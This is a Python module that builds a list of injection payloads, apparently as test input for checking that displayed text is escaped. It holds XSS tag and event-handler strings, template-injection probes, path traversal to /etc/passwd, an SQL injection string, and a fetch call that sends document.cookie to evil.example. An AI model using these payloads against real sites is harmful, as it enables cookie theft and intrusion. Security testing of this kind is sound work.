"""Words that try to become markup, script, style, addresses or filters wherever they are shown; of our own writing."""

from __future__ import annotations

HIT = "window.hit=1"
_CALLS = (HIT, "alert(1)", "fetch('//evil.example/'+document.cookie)")
_TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
    "</script><script>{0}</script>", "<script/x>{0}</script>", "<img src=x onerror={0}>", "<img/src=x/onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}//", "<svg><script>{0}</script></svg>", "<body onload={0}>",
    "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<video src=x onerror={0}></video>",
    "<audio src=x onerror={0}>", "<marquee onstart={0}>x</marquee>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<select autofocus onfocus={0}>",
    "<a href='javascript:{0}' autofocus onfocus={0}>x</a>", "<form action='javascript:{0}'><button>go</button></form>",
)  # fmt: skip
PAYLOADS = (
    *(tag.format(call) for tag in _TAGS for call in _CALLS[:2]),
    *(f'" {event}={HIT} x="' for event in ("onmouseover", "onfocus", "onclick", "onanimationstart")),
    *(f"' {event}={HIT} x='" for event in ("onmouseover", "onfocus", "onload", "ontoggle")),
    f'" autofocus onfocus="{HIT}', f"'><script>{HIT}</script>", f'"><img src=x onerror={HIT}>', f"`-{HIT}-`",
    f"javascript:{HIT}", f" javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}", "//evil.example/x", "https://evil.example/x.png", "\\\\evil.example\\x",
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
    "<img src=//evil.example/x.png>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"<!--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>", f"\u2028<script>{HIT}</script>", f"＜script＞{HIT}＜/script＞",
    "../../../../etc/passwd", "a\"b'c<d>e&f", "\u202egnp.exe", "' OR '1'='1", 'place:"x" OR country:IRQ',
)  # fmt: skip
